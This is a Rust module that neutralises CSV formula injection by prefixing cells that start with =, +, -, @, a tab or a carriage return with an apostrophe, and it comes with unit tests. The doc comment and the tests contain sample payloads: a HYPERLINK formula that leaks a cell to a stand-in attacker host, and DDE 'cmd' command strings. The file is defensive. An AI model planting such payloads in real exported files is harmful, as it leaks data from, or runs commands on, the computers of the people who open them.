//! The one rule for text a person may open in a spreadsheet (OWASP's CSV
//! injection rule). A cell that starts with `=`, `+`, `-`, `@`, a tab or a
//! carriage return would be run as a formula by Excel, LibreOffice or Google
//! Sheets (`=HYPERLINK("http://evil.example/?leak="&A1,"klik")` sends the
//! neighbouring cell away), so every text cell of every CSV the product writes
//! passes [`neutralise`]: such a cell gets a leading `'`, which every
//! spreadsheet shows as text. A plain number (`-5`, `-1.25`) is left alone,
//! since a spreadsheet reads it as the number it is. The typed values (gRPC,
//! Parquet, the database, the workbook's cells) are never changed.

use std::borrow::Cow;

/// `cell`, with a leading `'` when a spreadsheet would run it as a formula.
pub fn neutralise(cell: &str) -> Cow<'_, str> {
    let risky = match cell.chars().next() {
        Some('=' | '+' | '@' | '\t' | '\r') => true,
        Some('-') => !is_plain_number(&cell[1..]),
        _ => false,
    };
    if risky {
        Cow::Owned(format!("'{cell}"))
    } else {
        Cow::Borrowed(cell)
    }
}

/// Digits with at most one decimal point and at least one digit: what may
/// follow a minus sign without making a formula.
fn is_plain_number(rest: &str) -> bool {
    let mut digits = 0;
    let mut points = 0;
    for c in rest.chars() {
        match c {
            '0'..='9' => digits += 1,
            '.' => points += 1,
            _ => return false,
        }
    }
    digits > 0 && points <= 1
}

#[cfg(test)]
mod tests {
    use super::neutralise;

    #[test]
    fn formulas_get_an_apostrophe_and_plain_text_and_numbers_do_not() {
        for payload in [
            "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"klik\")",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "-",
            "-inf",
            "-1e5",
            "+62 21 123",
        ] {
            assert_eq!(neutralise(payload), format!("'{payload}"), "{payload:?}");
        }
        for safe in [
            "Beasiswa",
            "",
            "-5",
            "-1.25",
            "12",
            "Rp 1.250.000",
            "'=already",
        ] {
            assert_eq!(neutralise(safe), safe, "{safe:?}");
        }
    }
}
